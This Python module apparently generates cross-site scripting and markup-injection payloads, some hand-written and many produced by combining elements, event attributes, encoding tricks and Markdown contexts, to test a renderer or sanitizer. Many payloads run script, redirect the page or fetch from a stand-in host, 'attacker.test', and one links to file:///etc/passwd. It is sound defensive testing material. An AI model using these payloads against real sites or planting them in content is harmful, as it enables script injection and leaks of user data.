"""Texts that would run a script, load something, or lead elsewhere, on a page that took them as markup.

A few are written by hand; the others come from a small grammar: elements, what makes them act, ways of writing the
same, and places in Markdown. Each would be seen: it opens a dialog, sets a mark, asks for an address elsewhere, or
changes the place the page is at.
"""

from __future__ import annotations

import html
import itertools
import random
from collections.abc import Callable

ELSEWHERE = "https://attacker.test"
_ACT = f"window.wasRun=1;alert(1);fetch('{ELSEWHERE}/run')"

BY_HAND = (
    f"<script>{_ACT}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f'<img src=x onerror="{_ACT}">',
    f"<svg><script>{_ACT}</script></svg>",
    f'<svg><animate onbegin="{_ACT}" attributeName=x dur=1s>',
    f"<math><mtext><script>{_ACT}</script></mtext></math>",
    f'<iframe src="javascript:parent.{_ACT}"></iframe>',
    f"<style>@import url({ELSEWHERE}/x.css);body{{background:url({ELSEWHERE}/p)}}</style>",
    f"<base href={ELSEWHERE}/>",
    f"<base target=_top><a href={ELSEWHERE}>x</a>",
    f'<form><button formaction="javascript:{_ACT}">go</button></form>',
    f'<marquee onstart="{_ACT}">',
    f"[x](javascript:{_ACT})",
    f"[x](JaVaScRiPt:{_ACT})",
    f"[x](java\tscript:{_ACT})",
    f"[x](&#106;avascript:{_ACT})",
    f"[x](javascript&colon;{_ACT})",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    f"<javascript:{_ACT}>",
    f"[x](<javascript:{_ACT}>)",
    f"[x][1]\n\n[1]: javascript:{_ACT}",
    f"![x][2]\n\n[2]: {ELSEWHERE}/p.png",
    f"![x]({ELSEWHERE}/p.png)",
    f'![x]({ELSEWHERE}/p.png "t")',
    f"[![x]({ELSEWHERE}/p.png)]({ELSEWHERE})",
    "![x](//attacker.test/p.png)",
    f"<{ELSEWHERE}/a>",
    f"[x]({ELSEWHERE}/a)",
    "[x](//attacker.test)",
    "[x](file:///etc/passwd)",
    f'[x]({ELSEWHERE}/"onmouseover="{_ACT})',
    f'[x]({ELSEWHERE} "\\" onmouseover={_ACT}")',
    f"```html\n<script>{_ACT}</script>\n```",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{% raw %}",
    "${{value.constructor.constructor('alert(1)')()}}",
    f"</textarea><script>{_ACT}</script>",
    f"</script><script>{_ACT}</script>",
    f'</style><img src=x onerror="{_ACT}">',
    f'"><img src=x onerror="{_ACT}">',
    f"'><svg/onload={_ACT}>",
    f'<noscript><p title="</noscript><img src=x onerror={_ACT}>">',
    f"<template><script>{_ACT}</script></template>",
    f"<isindex action=javascript:{_ACT} type=image>",
    f"<!--><img src=x onerror={_ACT}>-->",
    f"<![CDATA[<script>{_ACT}</script>]]>",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
    f"%3Cscript%3E{_ACT}%3C/script%3E",
    f"＜script＞{_ACT}＜/script＞",
    f"<scr\u200bipt>{_ACT}</script>",
    f"<scr<script>ipt>{_ACT}</script>",
    f"<img/src=x/onerror={_ACT}>",
    f"\u202e<script>{_ACT}</script>",
    f"<\u0000script>{_ACT}</script>",
    f'| a |\n|---|\n| <img src=x onerror="{_ACT}"> |',
    f"1. [x](javascript:{_ACT})",
    f"<p dir=rtl id=conversation onclick={_ACT}>",
    "<input name=attributes><input name=parentNode>",
    "<img name=getElementById><form id=body>",
    f"<a href={ELSEWHERE} ping={ELSEWHERE}>x</a>",
)

_ELEMENTS = (
    "a", "applet", "area", "audio", "base", "body", "button", "details", "div", "embed", "form", "iframe", "image",
    "img", "input", "link", "marquee", "math", "meta", "object", "picture", "script", "select", "source", "style",
    "svg", "table", "textarea", "title", "track", "video", "x-custom",
)  # fmt: skip
_ATTRIBUTES = (
    f'onerror="{_ACT}" src="x"', f'onload="{_ACT}"', f'autofocus tabindex=0 onfocus="{_ACT}"', f'onmouseover="{_ACT}"',
    f'open ontoggle="{_ACT}"', f'href="javascript:{_ACT}"', f'src="{ELSEWHERE}/s"', f'srcset="{ELSEWHERE}/s 1x"',
    f'srcdoc="<script>parent.{_ACT}</script>"', f'style="background-image:url({ELSEWHERE}/c)"', f'data="{ELSEWHERE}/d"',
    f'action="{ELSEWHERE}/f"', f'xlink:href="{ELSEWHERE}/x"', f'poster="{ELSEWHERE}/p"', f'background="{ELSEWHERE}/b"',
    f'rel="stylesheet" href="{ELSEWHERE}/h"', f'http-equiv="refresh" content="0;url={ELSEWHERE}/m"',
    f'style="animation:x" onanimationstart="{_ACT}"',
)  # fmt: skip
_WRITINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    str.upper,
    lambda text: text.replace(" ", "/", 1),
    lambda text: text.replace(" ", "\n", 1),
    lambda text: html.escape(text, quote=False),
    lambda text: "".join(f"&#{ord(letter)};" if letter in "<>" else letter for letter in text),
    lambda text: text.replace("<", "\\<"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text[:-1],
)
_PLACES = (
    "{}", "**{}**", "> {}", "- {}", "# {}", "| a |\n|---|\n| {} |", "text {} text",
    "[{}](" + ELSEWHERE + ")", "![{}](x)", "~~{}~~",
    "```\n{}", "    {}", "[x]: {}\n\n[x]", "<!-- {} -->", "<div>\n\n{}\n\n</div>",
)  # fmt: skip


def payloads(number: int) -> list[str]:
    """So many of them, all different, the same each time: those by hand and the others in turn."""
    made = [
        place.format(writing(f"<{element} {attribute}>x</{element}>"))
        for element, attribute, writing, place in itertools.product(_ELEMENTS, _ATTRIBUTES, _WRITINGS, _PLACES)
    ]
    random.Random(1).shuffle(made)  # noqa: S311  nothing is kept secret with it
    mixed = itertools.chain.from_iterable(itertools.zip_longest(BY_HAND, made[: 10 * number]))
    return list(dict.fromkeys(text for text in mixed if text))[:number]
